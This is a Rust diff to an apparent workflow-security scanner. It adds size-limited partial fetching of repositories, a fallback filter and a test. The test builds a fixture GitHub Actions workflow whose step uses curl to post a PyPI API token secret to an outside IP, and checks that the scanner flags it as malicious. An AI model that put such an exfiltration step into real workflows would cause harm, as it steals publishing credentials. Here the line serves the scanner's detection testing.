@@ -35,6 +35,11 @@ const GIT_LIMIT: Duration = Duration::from_secs(120);
 /// How many bytes a fetched repository may have on disk.
 const SIZE_LIMIT: u64 = 1 << 30;
 
+/// Files above this size are not fetched, nor above the second one where the repository is too large with the first: workflows
+/// are small, and whoever may push could make a repository too large to be looked at with one file. A server that knows no
+/// filters sends everything.
+const FILE_LIMITS: &[&str] = &["blob:limit=4m", "blob:limit=64k"];
+
 /// How often the size of what is being fetched is looked at.
 const SIZE_PAUSE: Duration = Duration::from_millis(200);
 
@@ -108,8 +113,13 @@ impl Remote {
 
         let folder = tempfile::tempdir()
             .map_err(|error| ForgeError::Failed(format!("no temporary folder to fetch into: {error}")))?;
-        let clone = Clone::new(folder.path(), self.clone_url(name)?);
-        clone.fetch_all().await.map_err(|error| ForgeError::Failed(format!("fetching {name}: {error}")))?;
+        let mut clone = Clone::new(folder.path(), self.clone_url(name)?);
+        problems.extend(
+            clone
+                .fetch_all()
+                .await
+                .map_err(|error| ForgeError::Failed(format!("fetching {name}: {error}")))?,
+        );
         if let Some(branch) = about.and_then(|about| about.default_branch) {
             // Which branch's schedule and issue workflows run. Without it the scanner takes what HEAD says.
             let _ = clone.git(&["symbolic-ref", "HEAD", &format!("refs/heads/{branch}")], b"").await;
@@ -363,11 +373,13 @@ async fn scan(folder: PathBuf, identity: String, heads: Heads) -> Result<String,
 struct Clone<'a> {
     folder: &'a Path,
     url: Url,
+    /// Which files are fetched.
+    filter: &'static str,
 }
 
 impl<'a> Clone<'a> {
     fn new(folder: &'a Path, url: Url) -> Self {
-        Self { folder, url }
+        Self { folder, url, filter: FILE_LIMITS.first().copied().unwrap_or("blob:none") }
     }
 
     /// `git` with an environment of its own: no configuration of the machine or the user, no helper, no prompt, no hook, and
@@ -467,15 +479,43 @@ impl<'a> Clone<'a> {
         }
     }
 
-    async fn fetch_all(&self) -> Result<(), String> {
-        self.git(&["init", "--quiet", "--bare", "--template="], b"").await?;
+    /// Fetches branches and tags; what a reader must know about gaps.
+    async fn fetch_all(&mut self) -> Result<Option<String>, String> {
         let refs = ["+refs/heads/*:refs/heads/*", "+refs/tags/*:refs/tags/*"];
-        self.fetch(&refs).await
+        let mut failed = String::new();
+        for (number, filter) in FILE_LIMITS.iter().enumerate() {
+            self.filter = filter;
+            self.git(&["init", "--quiet", "--bare", "--template="], b"").await?;
+            match self.fetch(&refs).await {
+                Ok(()) if number == 0 => return Ok(None),
+                Ok(()) => {
+                    return Ok(Some(format!("truncated: only files up to {filter} were fetched ({failed})")));
+                }
+                Err(error) if size_of(self.folder, 0) > SIZE_LIMIT => failed = error,
+                Err(error) => return Err(error),
+            }
+            self.empty().map_err(|error| format!("{failed}; and what arrived can't be removed: {error}"))?;
+        }
+        Err(failed)
+    }
+
+    fn empty(&self) -> std::io::Result<()> {
+        for entry in std::fs::read_dir(self.folder)? {
+            let entry = entry?;
+            if entry.file_type()?.is_dir() {
+                std::fs::remove_dir_all(entry.path())?;
+            } else {
+                std::fs::remove_file(entry.path())?;
+            }
+        }
+        Ok(())
     }
 
     async fn fetch(&self, what: &[&str]) -> Result<(), String> {
+        let filter = format!("--filter={}", self.filter);
         let mut arguments = vec![
             "fetch",
+            filter.as_str(),
             "--quiet",
             "--no-tags",
             "--no-recurse-submodules",
@@ -613,7 +653,7 @@ mod tests {
 
     async fn fetch_from(url: &str) -> String {
         let folder = tempfile::tempdir().unwrap();
-        let clone = Clone::new(folder.path(), url.parse().unwrap());
+        let mut clone = Clone::new(folder.path(), url.parse().unwrap());
         clone.fetch_all().await.unwrap_err()
     }
 
@@ -632,6 +672,46 @@ mod tests {
             let problem = fetch_from(&url).await;
             assert!(problem.contains("not allowed"), "{url}: {problem}");
         }
+    }
+
+    #[tokio::test]
+    async fn files_that_were_left_out_do_not_keep_a_repository_from_being_scanned() {
+        let folders = tempfile::tempdir().unwrap();
+        let (source, fetched) = (folders.path().join("source"), folders.path().join("fetched"));
+        let git = |folder: &Path, arguments: &[&str]| {
+            let mut command = std::process::Command::new("git");
+            command.env_clear().env("PATH", std::env::var_os("PATH").unwrap()).current_dir(folder);
+            command.env("HOME", folder).env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_NO_LAZY_FETCH", "1");
+            command.args([
+                "-c",
+                "user.name=a",
+                "-c",
+                "user.email=a@example.test",
+                "-c",
+                "protocol.file.allow=always",
+            ]);
+            let done = command.args(arguments).output().unwrap();
+            assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
+        };
+        std::fs::create_dir_all(source.join(".github/workflows")).unwrap();
+        std::fs::create_dir(&fetched).unwrap();
+        let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d \
+                        token=${{ secrets.PYPI_API_TOKEN }} http://192.0.2.66/\n";
+        std::fs::write(source.join(".github/workflows/x.yml"), workflow).unwrap();
+        std::fs::write(source.join("large"), vec![7; (4 << 20) + 1]).unwrap();
+        git(&source, &["init", "--quiet", "--initial-branch=main"]);
+        git(&source, &["config", "uploadpack.allowFilter", "true"]);
+        git(&source, &["add", "."]);
+        git(&source, &["commit", "--quiet", "--message=x"]);
+        git(&fetched, &["init", "--quiet", "--bare", "--template=", "--initial-branch=main"]);
+        let filter = format!("--filter={}", FILE_LIMITS[0]);
+        let url = format!("file://{}", source.display());
+        git(&fetched, &["fetch", "--quiet", &filter, &url, "+refs/heads/*:refs/heads/*"]);
+        let heads = Heads { pushed: BTreeSet::new(), times: BTreeMap::new(), cited: BTreeSet::new() };
+        let document = scan(fetched, String::from("github.com/example-org/fish"), heads).await.unwrap();
+        let document: serde_json::Value = serde_json::from_str(&document).unwrap();
+        assert_eq!(document["findings"][0]["verdict"], "malicious", "{document}");
+        assert_eq!(document["problems"], serde_json::json!([]));
     }
 
     #[tokio::test]
